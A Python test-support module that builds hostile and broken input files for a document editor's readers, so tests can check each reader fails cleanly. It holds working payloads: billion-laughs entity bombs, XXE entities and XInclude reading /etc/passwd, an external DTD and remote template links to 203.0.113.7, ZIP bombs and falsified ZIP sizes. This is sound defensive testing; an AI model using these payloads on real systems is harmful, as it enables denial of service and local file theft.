"""Hostile and broken input files, built in code, for every readable file type.

:func:`hostile_cases` gives, for one extension, a list of ``(name, bytes,
expected)`` cases; ``expected`` is a regular expression the FormatError's
message must match, or ``None`` when any clear FormatError will do. The cases
for ZIP-based types (DOCX, ASiC-E) are here before their readers are: a test
parametrised over :func:`ametieditor.formats.registry.readable_extensions`
picks them up as soon as a reader is registered.
"""

from __future__ import annotations

import io
import tempfile
import zipfile
from pathlib import Path

from ametieditor.formats import xml_format
from ametieditor.io.safezip import OLE_SIGNATURE
from tests.support.factories import full_document

LEGACY = Path(__file__).resolve().parents[1] / "data" / "legacy"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<root>&lol9;</root>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<root>&xxe;</root>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE a SYSTEM "http://203.0.113.7/evil.dtd">
<root>x</root>"""

#: Word's document part with an entity smuggled in.
WORD_DTD = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"""

CONTENT_TYPES = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml"
 ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""

ROOT_RELS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Target="word/document.xml"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>
</Relationships>"""

DOCUMENT = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>AMETIJUHEND</w:t></w:r></w:p></w:body></w:document>"""

#: A document part whose image points at a server: a reader must not fetch it.
EXTERNAL_RELS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId9" TargetMode="External" Target="http://203.0.113.7/pixel.png"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>
<Relationship Id="rId8" TargetMode="External" Target="file://203.0.113.7/share/template.dotm"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>
</Relationships>"""


def make_zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def minimal_docx(replace: dict[str, bytes] | None = None) -> bytes:
    """A DOCX package Word opens, with some members replaced or added."""
    members = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS,
               "word/document.xml": DOCUMENT}
    members.update(replace or {})
    return make_zip(members)


def exported_docx() -> bytes:
    """A DOCX as the editor exports it (with its embedded XML), or a minimal one."""
    from ametieditor.formats import registry

    if ".docx" not in registry.writable_extensions():
        return minimal_docx()
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "eksport.docx"
        registry.save(full_document(), target)
        return target.read_bytes()


def replace_members(package: bytes, replace: dict[str, bytes]) -> bytes:
    """``package`` with some members replaced or added (others copied as they are)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    members = {info.filename: source.read(info) for info in source.infolist()}
    members.update(replace)
    return make_zip(members)


def embedded_part(package: bytes) -> str | None:
    """The name of the member holding the editor's own XML, if the package has one."""
    archive = zipfile.ZipFile(io.BytesIO(package))
    for name in archive.namelist():
        if name.startswith("customXml/item") and b"urn:ametieditor" in archive.read(name):
            return name
    return None


def largest_member(package: bytes) -> str:
    infos = zipfile.ZipFile(io.BytesIO(package)).infolist()
    return max(infos, key=lambda info: info.file_size).filename


def lying_sizes(data: bytes, member: str) -> bytes:
    """A ZIP whose central directory claims ``member`` is a tenth of its real size."""
    real = zipfile.ZipFile(io.BytesIO(data)).getinfo(member).file_size
    patched = bytearray(data)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = int.from_bytes(data[central + 28:central + 30], "little")
        if data[central + 46:central + 46 + name_length] == member.encode():
            patched[central + 24:central + 28] = max(real // 10, 1).to_bytes(4, "little")
            return bytes(patched)
        central = data.find(b"PK\x01\x02", central + 4)
    raise ValueError(member)


#: ``expected`` value meaning: a clear FormatError, or a successful load; never a traceback.
MAY_LOAD = "may-load"


def _zip_cases(valid: bytes) -> list[tuple[str, bytes, str | None]]:
    bomb_member = b"\0" * (30 * 1024 * 1024)
    inner_bomb = make_zip({"word/document.xml": bomb_member})
    return [
        ("truncated", valid[: len(valid) // 2], "rikutud või poolik"),
        ("empty", b"", None),
        ("garbage", b"PK\x03\x04" + bytes(range(256)) * 4, None),
        ("ole-password-protected", OLE_SIGNATURE + b"\0" * 4096, "parooliga kaitstud"),
        ("zip-bomb", make_zip({"[Content_Types].xml": CONTENT_TYPES,
                               "word/document.xml": bomb_member}), "ZIP-pomm"),
        ("zip-in-zip-bomb", make_zip({"[Content_Types].xml": CONTENT_TYPES,
                                      "word/document.xml": inner_bomb}), None),
        ("dtd-in-document", replace_members(valid, {"word/document.xml": WORD_DTD}),
         MAY_LOAD),
        ("dtd-in-content-types", replace_members(valid, {"[Content_Types].xml":
                                                         BILLION_LAUGHS}), MAY_LOAD),
        ("lying-member-size", lying_sizes(valid, embedded_part(valid) or largest_member(valid)),
         None),
        # The DOCX reader skips an embedded part it refuses and imports the visible text
        # instead (or refuses the file when no importer is registered).
        *([("dtd-in-embedded-xml", replace_members(valid, {embedded: XXE_FILE}), MAY_LOAD),
           ("billion-laughs-embedded", replace_members(valid, {embedded: BILLION_LAUGHS}),
            MAY_LOAD),
           ("truncated-embedded-xml", replace_members(valid, {
               embedded: zipfile.ZipFile(io.BytesIO(valid)).read(embedded)[:300]}), MAY_LOAD)]
          if (embedded := embedded_part(valid)) else []),
    ]


def _ametijuhend_cases() -> list[tuple[str, bytes, str | None]]:
    valid = xml_format.to_bytes(full_document())
    return [
        ("billion-laughs", BILLION_LAUGHS, "DTD"),
        ("xxe-file", XXE_FILE, "DTD"),
        ("xxe-network-dtd", XXE_NETWORK, "DTD"),
        ("doctype-after-comment", b"<!-- x -->\n" + XXE_FILE.split(b"\n", 1)[1], "DTD"),
        ("xinclude", valid.replace(
            b"<purpose>",
            b'<purpose><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            b'href="file:///etc/passwd" parse="text"/>'), None),
        ("truncated", valid[: len(valid) // 3], "XML"),
        ("unterminated-comment", valid.replace(b"<purpose>", b"<!--<purpose>"), "XML on vigane"),
        ("nul-character", valid.replace(b"<purpose>", b"<purpose>\0"), "XML on vigane"),
        ("empty", b"", None),
        ("utf16-garbage", "\ufeffAMETIJUHEND".encode("utf-16"), None),
        ("binary", bytes(range(256)) * 8, None),
        ("zip-renamed", minimal_docx(), None),
        ("deep-nesting", b"<a>" * 100_000 + b"</a>" * 100_000, None),
    ]


def hostile_cases(extension: str) -> list[tuple[str, bytes, str | None]]:
    """Hostile inputs for files of ``extension`` (empty for a type with none defined)."""
    if extension == ".ametijuhend":
        return _ametijuhend_cases()
    if extension in (".docx", ".docm", ".dotx"):
        return _zip_cases(exported_docx())
    if extension in (".asice", ".bdoc", ".sce"):
        container = make_zip({"mimetype": b"application/vnd.etsi.asic-e+zip",
                              "META-INF/manifest.xml": b"<manifest/>",
                              "ametijuhend.docx": minimal_docx()})
        return [case for case in _zip_cases(container)
                if case[0] not in ("dtd-in-document", "dtd-in-content-types")] + [
            ("dtd-in-manifest", make_zip({"mimetype": b"application/vnd.etsi.asic-e+zip",
                                          "META-INF/manifest.xml": BILLION_LAUGHS}), None),
            # found by the fuzzer: control characters echoed into the message, and a
            # member name too long for the file system when extracted
            ("mimetype-with-newlines", make_zip({"mimetype": b"application/x\n\nevil"}),
             "konteiner"),
            ("long-member-name", make_zip({
                "mimetype": b"application/vnd.etsi.asic-e+zip",
                "META-INF/manifest.xml": b"<manifest/>",
                "a" * 300 + ".docx": exported_docx()}), MAY_LOAD),
            ("docx-bomb-inside", make_zip({
                "mimetype": b"application/vnd.etsi.asic-e+zip",
                "META-INF/manifest.xml": b"<manifest/>",
                "ametijuhend.docx": make_zip({"word/document.xml": b"\0" * (30 << 20)})}),
             None),
        ]
    if extension == ".odt":  # read through LibreOffice: each case costs a conversion
        odt = (LEGACY / "handmade_002.odt").read_bytes()
        return [("truncated", odt[: len(odt) // 2], None),
                ("xxe-in-content", replace_members(odt, {"content.xml": XXE_FILE}), MAY_LOAD)]
    if extension == ".doc":
        # LibreOffice makes something of almost anything; the importer then reads that
        return [("garbage-ole", OLE_SIGNATURE + bytes(range(256)) * 16, MAY_LOAD),
                ("truncated", (LEGACY / "handmade_002.doc").read_bytes()[:2048], None)]
    if extension == ".rtf":
        return [("truncated", (LEGACY / "handmade_002.rtf").read_bytes()[:300], MAY_LOAD),
                ("binary", b"{\\rtf1" + bytes(range(256)) * 16, MAY_LOAD)]
    if extension == ".txt":
        return [("binary", bytes(range(256)) * 64, MAY_LOAD),
                ("nul-bytes", b"AMETIJUHEND\0\0\0" * 100, MAY_LOAD),
                ("utf16-without-bom", "AMETIJUHEND\n1. ÜLDOSA".encode("utf-16-le"), MAY_LOAD)]
    if extension == ".pdf":
        return [("truncated", b"%PDF-1.7\n1 0 obj\n<<", None),
                ("garbage", b"%PDF-" + bytes(range(256)) * 16, None),
                # found by the fuzzer: pypdf's own LimitReachedError, not a PdfReadError
                ("long-tounicode-code", pdf_with_long_cmap_code(), None)]
    return []


def pdf_with_long_cmap_code() -> bytes:
    """A one-page PDF whose font's /ToUnicode map has a 19-byte code (pypdf allows 16)."""
    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
            b"1 begincodespacerange <00> <FF> endcodespacerange\n"
            b"1 beginbfchar <" + b"41" * 19 + b"> <0041> endbfchar\n"
            b"endcmap CMapName currentdict /CMap defineresource pop end end\n")
    content = b"BT /F1 12 Tf 72 720 Td (Ametijuhendi tekst) Tj ET\n"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"endstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)
